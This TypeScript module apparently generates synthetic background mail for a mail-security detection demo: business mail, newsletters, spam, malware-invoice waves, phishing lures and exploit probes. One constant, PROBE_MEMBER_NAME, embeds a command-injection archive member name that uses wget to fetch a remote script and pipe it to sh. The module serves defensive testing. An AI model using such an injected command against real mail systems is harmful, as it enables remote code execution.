/**
 * The ordinary mail the campaign hides in: business mail, newsletters (hub
 * keys: a logo and a tracking domain shared by thousands of messages), spam
 * waves, commodity malware waves, credential phishing, and a few opportunistic
 * exploit probes with the campaign's detection but other infrastructure.
 * Some noise shares single traits with the campaign on purpose: its
 * countries, subject words, the public webmail domain and the tar type.
 */
import { attachment, draft, fill, hostIn, pickPerson, addressAt, timeOn, type DemoDraft, type DemoWindow } from './compose.js';
import { PUBLIC_WEBMAIL_DOMAIN } from './campaign.js';
import type { Dice } from './random.js';
import type { DemoOrganization } from './types.js';
import { BOTNET_COUNTRIES, LEGIT_SENDER_COUNTRIES } from './world.js';

const WORDS = ['nova', 'terra', 'blue', 'north', 'alpha', 'delta', 'summit', 'bright', 'river', 'stone', 'cedar', 'orbit', 'prime', 'vista', 'harbor', 'maple'];
const KINDS = ['consulting', 'partners', 'systems', 'group', 'services', 'labs', 'supply', 'associates'];

// Subjects of ordinary mail; some words ("consultation", "memorandum", "agenda", "visa") also occur in the campaign's lures.
const CLEAN_SUBJECTS: readonly string[] = [
  'Agenda for next week', 'Re: budget review {n}', 'Minutes of the {month} meeting', 'Public consultation responses summary', 'Memorandum on office relocation',
  'Visa support letter for the conference', 'Quarterly report draft', 'Re: procurement request {n}', 'Invoice {n} for services rendered', 'Project timeline update',
  'Training schedule', 'Re: contract renewal', 'Team offsite planning', 'Updated travel policy', 'Call for papers reminder', 'Meeting notes and action items',
  'Fwd: partner onboarding checklist', 'Request for quotation {n}', 'Grant application status', 'Workshop registration confirmed',
];

const CLEAN_SENTENCES: readonly string[] = [
  'Thanks for sending this over so quickly.', 'I have gone through the figures and they look right to me.', 'Could you check the numbers in the second table before Friday?',
  'The team agreed to move the review to next Tuesday afternoon.', 'Please find the updated version attached with the changes tracked.', 'Let me know if anything is missing from the list.',
  'We still need sign-off from the finance office on the last item.', 'I will be out of the office on Monday but reachable by phone.', 'The venue has confirmed the room for forty people.',
  'Our legal team suggested two small wording changes in section three.', 'Happy to set up a call if that is easier.', 'The supplier promised delivery by the end of the month.',
  'Attendance was good and most questions were about the timeline.', 'I copied Anna who handles the travel bookings.', 'The draft needs one more pass for consistency.',
  'We are waiting for the auditors to send their comments.', 'The new portal goes live after the maintenance window.', 'Can we reuse last year\'s template for this?',
  'Parking will be available in the north garage.', 'The data export finished overnight without errors.', 'Please treat the numbers as preliminary for now.',
  'We moved the deadline to give the regional offices more time.', 'Lunch will be provided for everyone who registers.', 'I added the missing references at the end.',
];

const MONTHS = ['January', 'February', 'March', 'April', 'May', 'June', 'July', 'August', 'September', 'October', 'November', 'December'];

interface Sender {
  readonly domain: string;
  readonly ip: string;
  readonly helo: string;
}

function partnerSenders(dice: Dice, count: number): Sender[] {
  const senders: Sender[] = [];
  for (let i = 0; i < count; i++) {
    const domain = `${dice.pick(WORDS)}-${dice.pick(KINDS)}-${i}.example`;
    senders.push({ domain, ip: hostIn(dice, dice.pick(LEGIT_SENDER_COUNTRIES)), helo: `mail.${domain}` });
  }
  return senders;
}

function sentences(dice: Dice, min: number, max: number): string {
  return dice.sample(CLEAN_SENTENCES, dice.int(min, max)).join(' ');
}

/** Ordinary business mail: partners and colleagues, a share from the public webmail domain. */
function cleanMail(dice: Dice, organizations: readonly DemoOrganization[], window: DemoWindow, count: number): DemoDraft[] {
  const partners = partnerSenders(dice, Math.max(20, Math.round(organizations.length / 2)));
  const webmailHosts = [hostIn(dice, 'US'), hostIn(dice, 'US'), hostIn(dice, 'NL')];
  const drafts: DemoDraft[] = [];
  for (let i = 0; i < count; i++) {
    const organization = dice.pick(organizations);
    const recipient = pickPerson(dice);
    const author = pickPerson(dice);
    const webmail = dice.chance(0.15);
    const sender: Sender = webmail ? { domain: PUBLIC_WEBMAIL_DOMAIN, ip: dice.pick(webmailHosts), helo: `out.${PUBLIC_WEBMAIL_DOMAIN}` } : dice.pick(partners);
    const from = webmail ? `${author.first}.${author.last}${dice.int(1, 99)}@${sender.domain}`.toLowerCase() : `${author.first}.${author.last}@${sender.domain}`.toLowerCase();
    const subject = fill(dice.pick(CLEAN_SUBJECTS), { n: String(dice.int(1000, 99999)), month: dice.pick(MONTHS) });
    const bodyText = `Hi ${recipient.first},\n${sentences(dice, 3, 6)}\nBest,\n${author.first}`;
    const attachments = [];
    const roll = dice.next();
    if (roll < 0.22) {
      const [name, type, ext] = dice.pick([
        ['report.pdf', 'application/pdf', 'pdf'], ['minutes.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', 'docx'],
        ['budget.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 'xlsx'], ['photo.jpg', 'image/jpeg', 'jpg'],
      ] as const);
      attachments.push(attachment('2', name, type, { type, extension: ext }, dice.int(20_000, 900_000), dice.hex(64)));
    } else if (roll < 0.24) {
      // Legitimate tar files exist: log bundles and data exports, with plain member names.
      attachments.push(attachment('2', dice.pick(['logs.tar', 'export.tar', 'dataset.tar']), 'application/x-tar', { type: 'application/x-tar', extension: 'tar' }, dice.int(50_000, 400_000), dice.hex(64)));
    }
    const urls = dice.chance(0.3) ? [`https://www.${sender.domain}/${dice.pick(['docs', 'events', 'portal', 'news'])}/${dice.int(1, 9999)}`] : [];
    // A rare false positive: quarantined on a weak signal, alone (no other message shares its evidence).
    const falsePositive = dice.chance(0.01);
    drafts.push(
      draft(dice, {
        kind: 'clean',
        organization,
        receivedAt: timeOn(dice, window, dice.int(0, window.days - 1)),
        mailFrom: from,
        rcptTo: [addressAt(recipient, organization)],
        clientIp: sender.ip,
        helo: sender.helo,
        headerFrom: `"${author.first} ${author.last}" <${from}>`,
        subject,
        bodyText,
        attachments,
        urls,
        findings: falsePositive ? [{ engine: 'filetype', symbol: 'FILETYPE_EXTENSION_MISMATCH', score: 5, severity: 'medium', detail: 'part 2: declared extension does not match the content' }] : [],
        action: falsePositive ? 'quarantine' : 'deliver',
      }),
    );
  }
  return drafts;
}

const NEWSLETTERS: readonly { readonly domain: string; readonly title: string; readonly topics: readonly string[] }[] = [
  { domain: 'policy-digest.example', title: 'Policy Digest', topics: ['regional policy consultation round-up', 'trade ministers meet again', 'new visa rules explained'] },
  { domain: 'trade-weekly.example', title: 'Trade Weekly', topics: ['tariff outlook', 'shipping rates fall', 'export credit changes'] },
  { domain: 'campus-news.example', title: 'Campus News', topics: ['research funding calls', 'exchange programmes open', 'rankings season'] },
  { domain: 'cyber-briefing.example', title: 'Cyber Briefing', topics: ['patch tuesday notes', 'gateway appliance advisories', 'phishing trends'] },
  { domain: 'gov-procurement.example', title: 'Procurement Bulletin', topics: ['open tenders', 'framework agreements', 'award notices'] },
  { domain: 'energy-markets.example', title: 'Energy Markets', topics: ['gas storage levels', 'grid investment', 'power prices'] },
];
/** A click-tracking domain every newsletter links through: a hub URL key. */
const TRACKING_DOMAIN = 'clicks.mailhub.example';

function newsletters(dice: Dice, organizations: readonly DemoOrganization[], window: DemoWindow, perIssue: number, issues: number): DemoDraft[] {
  const drafts: DemoDraft[] = [];
  for (const letter of NEWSLETTERS) {
    const ip = hostIn(dice, 'US');
    const logo = dice.hex(64);
    const subscribers = dice.sample(organizations, Math.min(organizations.length, perIssue));
    for (let issue = 1; issue <= issues; issue++) {
      const day = Math.min(window.days - 1, Math.floor(((issue - 0.5) * window.days) / issues));
      const topic = dice.pick(letter.topics);
      const body = `This week in ${letter.title}: ${topic}. ${sentences(dice, 4, 5)} Read the full stories on our website and manage your subscription at any time.`;
      for (const organization of subscribers) {
        const reader = pickPerson(dice);
        drafts.push(
          draft(dice, {
            kind: 'newsletter',
            organization,
            receivedAt: timeOn(dice, window, day),
            mailFrom: `bounce-${dice.hex(8)}@${letter.domain}`,
            rcptTo: [addressAt(reader, organization)],
            clientIp: ip,
            helo: `mta.${letter.domain}`,
            headerFrom: `"${letter.title}" <news@${letter.domain}>`,
            subject: `${letter.title} #${issue}: ${topic}`,
            bodyText: `Dear ${reader.first},\n${body}`,
            attachments: [attachment('2', 'logo.png', 'image/png', { type: 'image/png', extension: 'png' }, 4_812, logo)],
            urls: [`https://${TRACKING_DOMAIN}/c/${dice.hex(12)}`, `https://www.${letter.domain}/issue/${issue}`],
            action: 'deliver',
          }),
        );
      }
    }
  }
  return drafts;
}

const SPAM_LURES: readonly { readonly subject: string; readonly body: string; readonly site: string }[] = [
  { subject: 'Your order #{n} is waiting', body: 'Hello {name}, your parcel could not be delivered because of unpaid customs fee of {n} cents. Pay now to release the package within 24 hours or it returns to sender.', site: 'parcel-release' },
  { subject: 'Exclusive offer: {n}% off premium watches', body: 'Dear customer {name}, this week only our luxury watch collection is on sale with huge discounts. Free shipping worldwide and original box included, order today.', site: 'lux-watch-outlet' },
  { subject: 'Congratulations {name}, you have been selected', body: 'You have been selected to receive a reward voucher of {n} dollars from our partner stores. Claim it before it expires by completing the short survey.', site: 'reward-claims' },
  { subject: 'Lose weight fast with this one trick', body: 'Doctors hate this simple method that helped {n} people lose weight without diet or exercise. Watch the free video presentation now while it is still online.', site: 'slim-secret' },
  { subject: 'Increase your website traffic by {n}%', body: 'Hi {name}, we noticed your website could rank higher on search engines. Our expert team guarantees first page results in thirty days or your money back.', site: 'seo-rank-boost' },
  { subject: 'Business proposal from overseas partner', body: 'Dear {name}, I am contacting you about a confidential business proposal involving transfer of {n} million dollars. Kindly reply with your direct phone number for details.', site: 'intl-fund-transfer' },
];

function spamWaves(dice: Dice, organizations: readonly DemoOrganization[], window: DemoWindow, waves: number, perWave: number): DemoDraft[] {
  const drafts: DemoDraft[] = [];
  for (let w = 0; w < waves; w++) {
    const lure = SPAM_LURES[w % SPAM_LURES.length] ?? SPAM_LURES[0];
    if (lure === undefined) break;
    const start = dice.int(0, window.days - 4);
    const site = `${lure.site}-${w}.example`;
    for (let i = 0; i < perWave; i++) {
      const organization = dice.pick(organizations);
      const person = pickPerson(dice);
      const domain = `${dice.pick(WORDS)}${dice.int(10, 9999)}.example`;
      const slots = { name: person.first, n: String(dice.int(10, 990)) };
      const strong = dice.chance(0.6);
      drafts.push(
        draft(dice, {
          kind: 'spam',
          organization,
          receivedAt: timeOn(dice, window, start + dice.int(0, 3)),
          mailFrom: `${dice.pick(WORDS)}${dice.int(1, 999)}@${domain}`,
          rcptTo: [addressAt(person, organization)],
          clientIp: hostIn(dice, dice.pick(BOTNET_COUNTRIES)),
          helo: dice.chance(0.5) ? `[${dice.int(1, 223)}.${dice.int(0, 255)}.${dice.int(0, 255)}.${dice.int(1, 254)}]` : `host-${dice.hex(6)}.local`,
          headerFrom: `"${dice.pick(['Customer Service', 'Rewards Team', 'Sales'])}" <info@${domain}>`,
          subject: fill(lure.subject, slots),
          bodyText: fill(lure.body, slots),
          urls: [`http://${site}/${dice.hex(10)}`],
          findings: [{ engine: 'spam', symbol: 'BAYES_SPAM', score: strong ? 15 : 6, severity: strong ? 'high' : 'medium', detail: `spam probability ${strong ? '0.97' : '0.86'}` }],
          action: strong ? 'quarantine' : 'tag',
        }),
      );
    }
  }
  return drafts;
}

function malwareWaves(dice: Dice, organizations: readonly DemoOrganization[], window: DemoWindow, waves: number, perWave: number): DemoDraft[] {
  const drafts: DemoDraft[] = [];
  for (let w = 0; w < waves; w++) {
    const script = w % 2 === 0;
    const zipSha = dice.hex(64);
    const memberSha = dice.hex(64);
    const memberName = script ? `invoice_${dice.int(1000, 9999)}.js` : `payment_${dice.int(1000, 9999)}.exe`;
    const signature = script ? `Js.Downloader.Agent-${dice.int(6_000_000, 9_999_999)}-0` : `Win.Trojan.Agent-${dice.int(6_000_000, 9_999_999)}-0`;
    const start = dice.int(0, window.days - 3);
    // One wave comes from throwaway accounts at the public webmail domain, like part of the campaign.
    const webmail = w === 1;
    for (let i = 0; i < perWave; i++) {
      const organization = dice.pick(organizations);
      const person = pickPerson(dice);
      const domain = webmail ? PUBLIC_WEBMAIL_DOMAIN : `${dice.pick(WORDS)}-${dice.pick(KINDS)}${dice.int(1, 999)}.example`;
      const number = dice.int(10_000, 99_999);
      drafts.push(
        draft(dice, {
          kind: 'malware',
          organization,
          receivedAt: timeOn(dice, window, start + dice.int(0, 2)),
          mailFrom: `${webmail ? `billing.${dice.int(100, 999)}` : 'accounts'}@${domain}`,
          rcptTo: [addressAt(person, organization)],
          clientIp: hostIn(dice, dice.pick(BOTNET_COUNTRIES)),
          helo: `${dice.hex(8)}.dyn.example`,
          headerFrom: `"Accounts Payable" <accounts@${domain}>`,
          subject: `Invoice ${number} overdue - payment required`,
          bodyText: `Dear ${person.first},\nplease find attached invoice ${number} which is now overdue. Kindly arrange payment within three days to avoid service interruption and late fees.\nRegards,\nAccounts Payable`,
          attachments: [
            attachment('2', 'invoice.zip', 'application/zip', { type: 'application/zip', extension: 'zip' }, dice.int(8_000, 200_000), zipSha),
            attachment(`2/${memberName}`, memberName, 'application/octet-stream', script ? { type: 'application/javascript', extension: 'js' } : { type: 'application/x-msdownload', extension: 'exe' }, dice.int(4_000, 180_000), memberSha),
          ],
          findings: [
            { engine: 'clamav', symbol: 'CLAMAV_VIRUS', score: 100, severity: 'critical', detail: `ClamAV found ${signature}`, artifact: `2/${memberName}` },
            script
              ? { engine: 'filetype', symbol: 'FILETYPE_SCRIPT', score: 12, severity: 'high', detail: `part 2/${memberName}: script "${memberName}"`, artifact: `2/${memberName}` }
              : { engine: 'filetype', symbol: 'FILETYPE_EXECUTABLE', score: 20, severity: 'high', detail: `part 2/${memberName}: executable "${memberName}"`, artifact: `2/${memberName}` },
          ],
          action: 'reject',
        }),
      );
    }
  }
  return drafts;
}

function phishingWaves(dice: Dice, organizations: readonly DemoOrganization[], window: DemoWindow, waves: number, perWave: number): DemoDraft[] {
  const drafts: DemoDraft[] = [];
  for (let w = 0; w < waves; w++) {
    const site = `${dice.pick(['secure-login', 'mailbox-verify', 'office-portal', 'account-review'])}-${w}.example`;
    const start = dice.int(0, window.days - 3);
    const brand = dice.pick(['Microsoft 365', 'IT Helpdesk', 'Webmail Admin', 'DocuSign']);
    for (let i = 0; i < perWave; i++) {
      const organization = dice.pick(organizations);
      const person = pickPerson(dice);
      const domain = `${dice.pick(WORDS)}${dice.int(10, 999)}.example`;
      drafts.push(
        draft(dice, {
          kind: 'phishing',
          organization,
          receivedAt: timeOn(dice, window, start + dice.int(0, 2)),
          mailFrom: `no-reply@${domain}`,
          rcptTo: [addressAt(person, organization)],
          clientIp: hostIn(dice, dice.pick(BOTNET_COUNTRIES)),
          helo: `mail.${domain}`,
          headerFrom: `"${brand}" <no-reply@${domain}>`,
          subject: `Action required: your mailbox ${person.first.toLowerCase()}@${organization.domain} will be suspended`,
          bodyText: `Dear ${person.first},\nyour mailbox has exceeded its storage limit and incoming messages are on hold. Verify your account within 24 hours to keep receiving mail, otherwise the mailbox will be suspended.\n${brand} Team`,
          urls: [`https://${site}/${organization.domain}/login?u=${dice.hex(8)}`],
          findings: [{ engine: 'links', symbol: 'LINK_LOOKALIKE', score: 10, severity: 'high', detail: `link host ${site} imitates ${brand}` }],
          action: 'quarantine',
        }),
      );
    }
  }
  return drafts;
}

/** Member names of the opportunistic probes: the same exploit class as the campaign, from a scanner's network. */
export const PROBE_MEMBER_NAME = 'test;wget -q -O- http://5.3.38.9/a|sh;.txt';
/** The reason the member-name check gives for PROBE_MEMBER_NAME (checked by the unit test). */
export const PROBE_MEMBER_REASON = 'a command chained after a shell operator';

function exploitProbes(dice: Dice, organizations: readonly DemoOrganization[], window: DemoWindow, count: number): DemoDraft[] {
  const drafts: DemoDraft[] = [];
  const ordinary = organizations.filter((o) => !o.target);
  for (let i = 0; i < count; i++) {
    const organization = dice.pick(ordinary.length > 0 ? ordinary : organizations);
    const person = pickPerson(dice);
    const domain = `${dice.pick(WORDS)}${dice.int(10, 999)}.example`;
    drafts.push(
      draft(dice, {
        kind: 'exploit-probe',
        organization,
        receivedAt: timeOn(dice, window, dice.int(0, window.days - 1)),
        mailFrom: `scan@${domain}`,
        rcptTo: [addressAt(person, organization)],
        clientIp: hostIn(dice, 'RU'),
        helo: `scanner-${dice.hex(4)}`,
        headerFrom: `<scan@${domain}>`,
        subject: 'test',
        bodyText: 'test',
        attachments: [
          attachment('2', 'test.tar', 'application/x-tar', { type: 'application/x-tar', extension: 'tar' }, 10_240, dice.hex(64)),
          attachment(`2/${PROBE_MEMBER_NAME}`, PROBE_MEMBER_NAME, 'application/octet-stream', undefined, 0, dice.hex(64)),
        ],
        findings: [{ engine: 'archive', symbol: 'ARCHIVE_NAME_SHELL_META', score: 40, severity: 'critical', detail: `member name "${PROBE_MEMBER_NAME}" holds ${PROBE_MEMBER_REASON}`, artifact: `2/${PROBE_MEMBER_NAME}` }],
        action: 'reject',
      }),
    );
  }
  return drafts;
}

/** All noise for `organizations.length` organizations: about 28 messages per organization. */
export function generateNoise(dice: Dice, organizations: readonly DemoOrganization[], window: DemoWindow): DemoDraft[] {
  const n = organizations.length;
  return [
    ...cleanMail(dice, organizations, window, n * 18),
    ...newsletters(dice, organizations, window, Math.round(n / 6), 6),
    ...spamWaves(dice, organizations, window, 10, Math.round(n / 4)),
    ...malwareWaves(dice, organizations, window, 8, Math.round(n / 8)),
    ...phishingWaves(dice, organizations, window, 8, Math.round(n / 10)),
    ...exploitProbes(dice, organizations, window, 6),
  ];
}
